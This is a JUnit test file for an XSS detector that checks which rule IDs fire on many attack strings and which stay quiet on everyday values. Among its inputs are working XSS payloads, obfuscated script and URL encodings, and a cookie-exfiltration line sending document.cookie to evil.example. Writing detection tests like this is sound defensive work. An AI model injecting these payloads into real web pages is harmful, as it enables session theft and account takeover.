package dev.bulwark.core.internal.xss;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bulwark.core.Component;
import dev.bulwark.core.Level;
import dev.bulwark.core.Source;
import dev.bulwark.core.internal.rules.RuleDefinition;
import dev.bulwark.core.internal.rules.ScanTarget;
import dev.bulwark.core.internal.rules.Scans;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

class XssDetectorTest {

    private final XssDetector detector = new XssDetector();

    private List<String> rules(ScanTarget target, Level level) {
        List<String> ids = new ArrayList<>();
        detector.scan(target, (rule, offset, length) -> {
            assertThat(offset).isBetween(0, Math.max(0, target.text().length() - 1));
            assertThat(length).isPositive();
            if (level.enables(rule.level())) {
                ids.add(rule.id());
            }
        });
        return ids;
    }

    private List<String> standard(String value) {
        return rules(ScanTarget.queryValue(value), Level.STANDARD);
    }

    private List<String> basic(String value) {
        return rules(ScanTarget.queryValue(value), Level.BASIC);
    }

    private List<String> strict(String value) {
        return rules(ScanTarget.queryValue(value), Level.STRICT);
    }

    @Test
    void judgesEachValueAsIfItWereTheFirstOnTheThread() {
        // Each thread's findings and text buffer serve every scan: nothing may pass to the next value.
        List<ScanTarget> targets = List.of(ScanTarget.queryValue("<script>alert(1)</script>"),
                Scans.json("/a", "%3Cscript%3Ealert(1)%3C/script%3E"),
                Scans.json("/b", "<b onmouseover=x()>%3Cimg src=x onerror=y()%3E"),
                ScanTarget.queryValue("it's (a present): call +41 44"), Scans.jsonKey("<svg onload=alert(1)>"),
                ScanTarget.queryValue("javascript:alert(document.cookie)"), ScanTarget.queryValue("&lt;SCRIPT&gt;"),
                Scans.json("/c", "plain %41 text"));
        List<List<String>> alone = new ArrayList<>();
        for (ScanTarget target : targets) {
            alone.add(rules(target, Level.STRICT));
        }
        for (ScanTarget before : targets) {
            for (int i = 0; i < targets.size(); i++) {
                rules(before, Level.STRICT);
                assertThat(rules(targets.get(i), Level.STRICT)).as("%s after %s", targets.get(i).text(), before.text())
                        .isEqualTo(alone.get(i));
            }
        }
    }

    @Test
    void declaresItsKeyAndRules() {
        assertThat(detector.key()).isEqualTo("XSS");
        assertThat(detector.rules()).extracting(RuleDefinition::key).containsOnly("XSS");
        assertThat(detector.rules()).extracting(RuleDefinition::id).doesNotHaveDuplicates();
        assertThat(detector.rules()).allSatisfy(rule -> assertThat(rule.reference()).startsWith("https://"));
    }

    @Nested
    class Tags {

        @Test
        void detectsScriptTagAtBasic() {
            assertThat(basic("<script>alert(1)</script>")).contains("XSS-SCRIPT-TAG");
        }

        @Test
        void detectsUnclosedMixedCaseScriptTagAtEnd() {
            assertThat(basic("x<ScRiPt")).contains("XSS-SCRIPT-TAG");
        }

        @Test
        void detectsNamespacedScriptTag() {
            assertThat(basic("<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">")).contains("XSS-SCRIPT-TAG");
        }

        @Test
        void detectsScriptTagSplitBySpaces() {
            assertThat(standard("<s c r i p t>")).contains("XSS-SCRIPT-TAG");
        }

        @Test
        void detectsScriptTagWithNulInsideItsName() {
            assertThat(standard("<scr\\0ipt src=//evil.example/x.js>")).contains("XSS-SCRIPT-TAG");
        }

        @Test
        void detectsEntityEncodedScriptTag() {
            assertThat(standard("&lt;script&gt;alert(1)&lt;/script&gt")).contains("XSS-SCRIPT-TAG");
        }

        @Test
        void detectsFullWidthScriptTag() {
            assertThat(standard("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e")).contains("XSS-SCRIPT-TAG");
        }

        @Test
        void detectsUtf7ScriptTag() {
            assertThat(standard("+ADw-script+AD4-alert(1)+ADw-/script+AD4-")).contains("XSS-SCRIPT-TAG");
        }

        @Test
        void detectsSvgWithSlashSeparatedHandler() {
            assertThat(basic("<svg/onload=alert(1)>")).contains("XSS-EVENT-HANDLER");
            assertThat(standard("<svg/onload=alert(1)>")).contains("XSS-DANGEROUS-TAG");
        }

        @Test
        void detectsImageErrorHandler() {
            assertThat(basic("<img src=x onerror=alert(1)>")).contains("XSS-EVENT-HANDLER");
        }

        @Test
        void detectsHandlerWithUnknownName() {
            assertThat(basic("<xss onbeforehellfreezes=prompt(1)>")).contains("XSS-EVENT-HANDLER");
        }

        @Test
        void detectsHandlerSeparatedByControlCharacters() {
            assertThat(basic("<img\fsrc=x\ronerror\t=alert(1)>")).contains("XSS-EVENT-HANDLER");
        }

        @Test
        void detectsHandlerInTagHiddenInAttributeValue() {
            assertThat(basic("<img alt=\"<img src=x onerror=alert(1)>\">")).contains("XSS-EVENT-HANDLER");
        }

        @Test
        void detectsHandlerAfterQuotedGreaterThan() {
            assertThat(basic("<a title='>' onclick=alert(1)>x</a>")).isNotEmpty();
        }

        @Test
        void detectsDangerousElements() {
            for (String tag : List.of("<iframe src=//evil.example>", "<object data=x.swf>", "<embed src=x>",
                    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0>", "<link rel=import>",
                    "<style>@import 'x'</style>", "<form action=//evil.example>", "<math><mi>",
                    "<applet code=x.class>")) {
                assertThat(standard(tag)).as(tag).contains("XSS-DANGEROUS-TAG");
            }
        }

        @Test
        void detectsDangerousElementSpelledWithSpaces() {
            assertThat(standard("$<f o r m")).contains("XSS-DANGEROUS-TAG");
        }

        @Test
        void allowsFormControlsWithOnlyPlainAttributes() {
            for (String value : List.of("<li><label><input type=\"checkbox\" checked disabled> Buy milk</label></li>",
                    "<input type=\"radio\" class=\"opt\" data-id=\"3\">", "<button type=\"submit\">Send</button>",
                    "<button class=\"btn btn-primary\" aria-label=\"Close\">x</button>", "<input type=checkbox />")) {
                assertThat(standard(value)).as(value).isEmpty();
            }
        }

        @Test
        void detectsFormControlsThatAddFieldsOrLoadContent() {
            for (String value : List.of("<input type=\"hidden\" name=\"role\" value=\"admin\">",
                    "<input type=\"password\" placeholder=\"Password\">", "<input type=image src=x>",
                    "<input value=\"``onmouseover=alert(1)\">", "<input autofocus>", "<button form=\"f\">go</button>",
                    "<input type=\"text\" name=\"q\">", "<input type=\"checkbox\"", "<button type=`submit`>")) {
                assertThat(standard(value)).as(value).isNotEmpty();
            }
        }

        @Test
        void detectsSrcdocAndFormaction() {
            assertThat(standard("<button formaction=//evil.example>")).contains("XSS-DANGEROUS-ATTRIBUTE");
            assertThat(standard("<p srcdoc=\"x\">")).contains("XSS-DANGEROUS-ATTRIBUTE");
        }

        @Test
        void reportsStyleAttributeUnderItsOwnRule() {
            assertThat(standard("<span style=\"color: green\">Gentle</span>"))
                    .containsExactly("XSS-STYLE-ATTRIBUTE");
        }

        @Test
        void reportsProtocolRelativeLinkAsDisguised() {
            assertThat(standard("<a href=\"//evil.example\">login</a>")).containsExactly("XSS-DISGUISED-LINK");
        }

        @Test
        void reportsLinksThatHideTheirHostAsDisguised() {
            for (String link : List.of("http:/\t/evil.example", "/\\\\evil.example", "https:/evil.example",
                    "https:///evil.example", "https://shop.example@evil.example/", "\u200bhttps://evil.example")) {
                assertThat(standard("<a href=\"" + link + "\">login</a>")).as(link).contains("XSS-DISGUISED-LINK");
            }
        }

        @Test
        void reportsPlainLinkToAnotherHostUnderItsOwnRuleAtStrict() {
            assertThat(strict("<a href=\"https://evil.example/login\">login</a>")).contains("XSS-FOREIGN-LINK");
            assertThat(strict("<img src='https://evil.example/pixel.png'>")).contains("XSS-FOREIGN-LINK");
        }

        @Test
        void allowsPlainLinkToAnotherHostAtStandard() {
            assertThat(standard("<a href=\"https://docs.example/walks\">walking guide</a>")).isEmpty();
            assertThat(standard("<img src='https://cdn.example/rex.png'>")).isEmpty();
        }

        @Test
        void allowsLinksWithinTheSite() {
            assertThat(standard("<a href=\"/pets/12\">Rex</a>")).isEmpty();
            assertThat(standard("<a href=\"pets/12#walks\">Rex</a>")).isEmpty();
            assertThat(standard("<a href=\"mailto:shop@petstore.example\">mail us</a>")).isEmpty();
        }

        @Test
        void reportsFixedPositionAsOverlay() {
            assertThat(standard("<div style=\"position:fixed;top:0\">")).contains("XSS-CSS-OVERLAY");
            assertThat(standard("<div style=\"POSITION : /**/ Fixed !important\">")).contains("XSS-CSS-OVERLAY");
        }

        @Test
        void reportsFixedPositionWrittenWithCssEscapes() {
            assertThat(standard("<div style=\"position:f\\69xed\">")).contains("XSS-CSS-OVERLAY");
        }

        @Test
        void reportsPageSizedOrStackedOrTransparentAbsolutePositionAsOverlay() {
            for (String style : List.of("position:absolute;width:100%;height:100%", "position:absolute;inset:0",
                    "position: absolute; height: 100vh", "position:absolute;z-index:9999",
                    "opacity:0;position:absolute", "position:absolute;opacity:.05", "position:absolute;width:2000px")) {
                assertThat(standard("<a style=\"" + style + "\">x</a>")).as(style).contains("XSS-CSS-OVERLAY");
            }
        }

        @Test
        void leavesStylesThatStayInTheTextOutOfOverlay() {
            for (String style : List.of("color: green", "position: relative; width: 100%", "position:absolute; width: 40px",
                    "opacity: 0.5", "font-size: 120%", "position:absolute;opacity:0.5;width:50%")) {
                assertThat(standard("<span style=\"" + style + "\">x</span>")).as(style)
                        .doesNotContain("XSS-CSS-OVERLAY");
            }
        }

        @Test
        void reportsEachDangerOfOneTagUnderItsOwnRule() {
            assertThat(standard("<a href=\"//evil.example/login\" style=\"position:fixed;top:0;left:0;width:100%;"
                    + "height:100%;opacity:0\" onmouseover=\"steal()\">"))
                    .contains("XSS-STYLE-ATTRIBUTE", "XSS-DISGUISED-LINK", "XSS-CSS-OVERLAY", "XSS-EVENT-HANDLER");
        }

        @Test
        void reportsOverlayInjectedIntoAnAttribute() {
            assertThat(standard("\" style=\"position:fixed;top:0;left:0;width:100%;height:100%"))
                    .contains("XSS-CSS-OVERLAY");
        }

        @Test
        void detectsClosingScriptTagThatBreaksOutOfScript() {
            assertThat(standard("</script><svg onload=alert(1)>")).contains("XSS-CONTEXT-BREAKOUT");
        }

        @Test
        void detectsCommentCloseAtStartOfValue() {
            assertThat(standard("-->")).contains("XSS-CONTEXT-BREAKOUT");
        }

        @Test
        void detectsEntityDeclaration() {
            assertThat(standard("<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil.example/x\">%x;]>"))
                    .contains("XSS-MARKUP-DECLARATION");
        }

        @Test
        void detectsServerSideInclude() {
            assertThat(standard("<!--#exec cmd=\"id\"-->")).contains("XSS-MARKUP-DECLARATION");
        }

        @Test
        void ignoresServerSideIncludeNamedWithoutAttribute() {
            assertThat(standard("use <!--#include--> directives carefully")).isEmpty();
            assertThat(standard("<!--#printenv-->")).contains("XSS-MARKUP-DECLARATION");
        }

        @Test
        void detectsImportProcessingInstruction() {
            assertThat(standard("<?import implementation=\"x.htc\">")).contains("XSS-MARKUP-DECLARATION");
        }

        @Test
        void detectsTagWithAttributesInParameterName() {
            ScanTarget name = new ScanTarget("x=<a href=\"test\"", Source.FORM, Component.NAME, "x=<a href=\"test\"");
            assertThat(rules(name, Level.STANDARD)).contains("XSS-MARKUP-IN-NAME");
        }

        @Test
        void ignoresCHeaderNamedLikeDangerousElement() {
            assertThat(standard("#include <math.h> rather than <stdlib.h>")).isEmpty();
        }

        @Test
        void detectsDangerousElementFollowedByJunk() {
            assertThat(standard("<noscript#")).contains("XSS-DANGEROUS-TAG");
        }

        @Test
        void detectsPercentEncodedScriptTagInJsonValue() {
            ScanTarget json = new ScanTarget("%3Cscript%3Ealert(1)%3C%2Fscript%3E", Source.JSON, Component.VALUE, "/note");
            assertThat(rules(json, Level.STANDARD)).contains("XSS-SCRIPT-TAG");
        }

        @Test
        void detectsPercentEncodedUtf7ScriptTagInXmlValue() {
            ScanTarget xml = new ScanTarget("%2bADw-script%2bAD4-", Source.XML, Component.VALUE, "/root/a/@probe");
            assertThat(rules(xml, Level.STANDARD)).contains("XSS-SCRIPT-TAG");
        }

        @Test
        void detectsPercentEncodedHandlerNameInJsonValue() {
            ScanTarget json = new ScanTarget("<x %6Fnxxx=1", Source.JSON, Component.VALUE, "/note");
            assertThat(rules(json, Level.STANDARD)).isNotEmpty();
        }

        @Test
        void detectsEdgeSideIncludeTag() {
            assertThat(standard("<esi:include src=\"http://attacker.example/x.xml\"/>")).contains("XSS-DANGEROUS-TAG");
        }

        @Test
        void ignoresPercentEncodedLinkInJsonValue() {
            ScanTarget json = new ScanTarget("https://example.com/search?q=%3C3%20cats&next=%2Fhome%3Fa%3D1",
                    Source.JSON, Component.VALUE, "/link");
            assertThat(rules(json, Level.STANDARD)).isEmpty();
        }

        @Test
        void reportsPlainTagWithAttributesOnlyAtStrict() {
            assertThat(standard("<b class=\"x\">bold</b>")).isEmpty();
            assertThat(strict("<b class=\"x\">bold</b>")).contains("XSS-HTML-TAG");
        }
    }

    @Nested
    class Urls {

        @Test
        void detectsJavascriptUrlWithCallAtBasic() {
            assertThat(basic("javascript:alert(1)")).contains("XSS-SCRIPT-URL-CALL");
        }

        @Test
        void detectsJavascriptUrlInAttribute() {
            assertThat(basic("<a href=\"javascript:alert(document.domain)\">x</a>")).contains("XSS-SCRIPT-URL-CALL");
        }

        @Test
        void detectsSchemeSplitByEntityEncodedTab() {
            assertThat(standard("ja&tab;vascript:")).contains("XSS-SCRIPT-URL");
        }

        @Test
        void detectsSchemeEncodedAsDecimalReferencesWithoutSemicolons() {
            assertThat(basic("<img src=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)>"))
                    .contains("XSS-SCRIPT-URL-CALL");
        }

        @Test
        void detectsSchemeWithLeadingControlCharacter() {
            assertThat(basic("<a href=\"\u0001javascript:alert(1)\">")).contains("XSS-SCRIPT-URL-CALL");
        }

        @Test
        void detectsHexEncodedScheme() {
            assertThat(basic("&#x6A;avascript&#x3A;alert(1)")).contains("XSS-SCRIPT-URL-CALL");
        }

        @Test
        void detectsVbscriptUrl() {
            assertThat(standard("<a href=\"vbscript:MsgBox+1\">")).contains("XSS-SCRIPT-URL");
        }

        @Test
        void detectsHtmlDataUrl() {
            assertThat(standard("data:text/html,<script>alert(1)</script>")).contains("XSS-SCRIPT-URL");
        }

        @Test
        void detectsBase64MarkupInDataUrlOfAnyType() {
            assertThat(standard("<a href=\"data:application/x-x509-user-cert;base64,PHNjcmlwdD4=\">"))
                    .contains("XSS-SCRIPT-URL");
        }

        @Test
        void detectsDataUrlWithoutTypeHoldingMarkup() {
            assertThat(standard(" data: , <x>")).contains("XSS-SCRIPT-URL");
        }

        @Test
        void ignoresNoOpJavascriptLinks() {
            assertThat(standard("javascript:;")).isEmpty();
            assertThat(standard("javascript:void(0)")).isEmpty();
            assertThat(standard("{\"destination\":\"javascript:;\",\"id\":\"\"}")).isEmpty();
        }

        @Test
        void ignoresBookTitleThatStartsWithJavascript() {
            assertThat(standard("JavaScript: The Good Parts (2008)")).isEmpty();
        }

        @Test
        void ignoresImageDataUrl() {
            assertThat(standard("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYAAAAAMAAWgmWQ0AAAAASUVORK5CYII="))
                    .isEmpty();
        }
    }

    @Nested
    class Breakouts {

        @Test
        void detectsHandlerAfterDoubleQuote() {
            assertThat(standard("\" onmouseover=alert(1) x=\"")).contains("XSS-ATTRIBUTE-BREAKOUT");
        }

        @Test
        void detectsAutofocusHandlerAfterSingleQuote() {
            assertThat(standard("' autofocus onfocus=alert(1) '")).contains("XSS-ATTRIBUTE-BREAKOUT");
        }

        @Test
        void detectsHandlerInUserAgentComment() {
            assertThat(standard("Test/1.0 (compatible; onload=alert(document.domain))")).contains("XSS-ATTRIBUTE-BREAKOUT");
        }

        @Test
        void detectsFormactionAfterQuote() {
            assertThat(standard("'formaction=//evil.example")).contains("XSS-ATTRIBUTE-BREAKOUT");
        }

        @Test
        void detectsStringBreakoutWithCall() {
            assertThat(standard("';alert(1)//")).contains("XSS-JS-CALL");
            assertThat(standard("\"-alert(1)-\"")).contains("XSS-JS-CALL");
        }

        @Test
        void detectsStringBreakoutAssigningThroughIn() {
            assertThat(standard("\"in \\u0076alueOf=")).contains("XSS-JS-OBFUSCATION");
        }

        @Test
        void ignoresHandlerNameAsQueryParameterInUrl() {
            assertThat(standard("https://example.com/collect?onload=googleLoginRender")).isEmpty();
        }

        @Test
        void ignoresHandlerNameInsideTokens() {
            assertThat(standard("t=1614308115,v1=5257a869e7ecebeda32affa62cdca3fa51onabcd=6yJV")).isEmpty();
        }
    }

    @Nested
    class Script {

        @Test
        void detectsProofOfInjectionCalls() {
            for (String call : List.of("alert(1)", "prompt()", "confirm(document.cookie)", "eval('2 + 2')",
                    "setTimeout(name, 1)", "new Function()", "atob('YQ==')")) {
                assertThat(standard(call)).as(call).contains("XSS-JS-CALL");
            }
        }

        @Test
        void detectsCallWithCommentsBeforeParenthesis() {
            assertThat(standard("alert/**/(1)")).contains("XSS-JS-CALL");
        }

        @Test
        void detectsTaggedTemplateCall() {
            assertThat(standard("alert`1`")).contains("XSS-JS-CALL");
            assertThat(standard("[].sort.call`${alert}1337`")).contains("XSS-JS-CALL");
        }

        @Test
        void detectsEscapedFunctionName() {
            assertThat(standard("\\u0061lert(1)")).contains("XSS-JS-CALL");
        }

        @Test
        void detectsModuleImport() {
            assertThat(standard("import { a } from \"./a.js\";")).contains("XSS-JS-CALL");
        }

        @Test
        void detectsDomSinks() {
            for (String sink : List.of("document.cookie", "window.location", "document /*x*/ . cookie",
                    "window[\"alert\"](1)", "(document)[\"cookie\"]", "self[\"$\"]", "x.innerHTML='<b>'",
                    "location.href='//evil.example'")) {
                assertThat(standard(sink)).as(sink).contains("XSS-DOM-SINK");
            }
        }

        @Test
        void detectsHandlerAssignedOnGlobal() {
            assertThat(standard("window.onerror=alert;throw 1")).contains("XSS-DOM-SINK");
        }

        @Test
        void detectsCookieExfiltrationThroughLocation() {
            assertThat(standard("document.location='//evil.example/?c='+document.cookie")).contains("XSS-DOM-SINK");
        }

        @Test
        void ignoresQuestionAboutDomMethod() {
            assertThat(standard("What does document.getElementById return?")).isEmpty();
        }

        @Test
        void ignoresAlternativesInParentheses() {
            assertThat(standard("Please confirm(yes/no)")).isEmpty();
        }

        @Test
        void detectsConstructorChain() {
            assertThat(standard("[].constructor.constructor('alert(1)')()")).contains("XSS-JS-OBFUSCATION");
        }

        @Test
        void detectsJsFuck() {
            assertThat(standard("(![]+[])[+!+[]]")).contains("XSS-JS-OBFUSCATION");
        }

        @Test
        void detectsTemplateExpressionEscape() {
            assertThat(standard("{{constructor.constructor('alert(1)')()}}")).contains("XSS-TEMPLATE-EXPRESSION");
            assertThat(standard("{{$on.constructor('alert(1)')()}}")).contains("XSS-TEMPLATE-EXPRESSION");
        }

        @Test
        void detectsCssExpression() {
            assertThat(standard("<div style=\"width:expr/**/ession(alert(1))\">")).contains("XSS-CSS");
            assertThat(standard("x:url(javascript")).contains("XSS-CSS");
            assertThat(standard("-moz-binding:url(http://evil.example/x.xml#x)")).contains("XSS-CSS");
        }

        @Test
        void ignoresPlainTemplateExpression() {
            assertThat(standard("Hello {{ user.name }}")).isEmpty();
        }

        @Test
        void ignoresPythonAndDocumentStoreKeys() {
            assertThat(standard("self['name'] = value")).isEmpty();
            assertThat(standard("document['title']")).isEmpty();
        }

        @Test
        void ignoresMarkdownImage() {
            assertThat(standard("![](https://example.com/cat.png)")).isEmpty();
        }

        @Test
        void ignoresCallsInProse() {
            assertThat(standard("please confirm (yes or no)")).isEmpty();
            assertThat(standard("price alert (daily)")).isEmpty();
            assertThat(standard("set up alert(s) for this search")).isEmpty();
            assertThat(standard("1alert(1)")).isEmpty();
        }

        @Test
        void ignoresImportInProse() {
            assertThat(standard("if you're willing to import (and perhaps wait around)")).isEmpty();
        }

        @Test
        void ignoresCodeSnippetInProse() {
            assertThat(standard("use `items.map(x => x * 2)` and then call render(list) again")).isEmpty();
        }
    }

    @Nested
    class Documents {

        @Test
        void allowsSvgAndNamespacesInXmlDocument() {
            assertThat(standard("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"></svg>")).isEmpty();
        }

        @Test
        void stillDetectsScriptInXmlDocument() {
            assertThat(basic("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"))
                    .contains("XSS-EVENT-HANDLER");
        }
    }

    @Nested
    class Traps {

        @Test
        void ignoresEverydayValues() {
            for (String value : List.of("O'Brien", "select your size", "1 or 2 items", "drop-down",
                    "a=b&c=d", "<3", "I <3 <3 the doctor", "a < b > c", "1<2", "<john@example.com>",
                    "John Doe <john@example.com>", "vector<int>", "std::map<std::string, int> m;",
                    "**bold** and _italic_ [link](https://example.com/a?b=c&d=e)", "$5 + tax",
                    "2024-01-31", "+1 (555) 123-4567", "report_final(2).pdf", "550e8400-e29b-41d4-a716-446655440000",
                    "https://shop.example.com/products?version=premium&option=deluxe",
                    "javascript is fun", "I learned JavaScript: it was fun.", "the onload event fires late",
                    "{\"name\":\"x\",\"tags\":[\"a\",\"b\"],\"onload\":true}", "Q29udGVudCBvZiBhIGZpbGU=",
                    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk",
                    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
                    "Settings --> Privacy", "if (a < b) { return a; }", "online=1&theme=dark",
                    "BLAH <A HREF=\"/PATH1/PATH2\">FOO</A>", "<span class=\"show-text\">regardez</span>",
                    "pr_shop\">MamaBearBabyWear</a>", "document.pdf", "top.example.com",
                    "Learn JavaScript: A Beginner's Guide (2nd Edition)", "javascript developer jobs in london",
                    "How do I use the onload event in React?", "List<Map<String, Object>> rows = new ArrayList<>();",
                    "<b>Bold</b> and <i>italic</i> text", "<p>Hello <br/> world</p>", "=SUM(A1:A10)",
                    "C:\\Program Files\\App\\bin\\app.exe", "The eval (evaluation) period ends soon",
                    "window cleaning service near me", "location: Berlin, Germany", "mailto:john@example.com",
                    "data: 5 rows updated", ":) :( :-> <-- arrow", "usage: convert <input> <output>",
                    "set <base> to your server's <link> prefix",
                    "Error: Cannot read properties of undefined (reading 'map') at Object.<anonymous> (/app/index.js:10:5)")) {
                assertThat(standard(value)).as(value).isEmpty();
            }
        }
    }
}
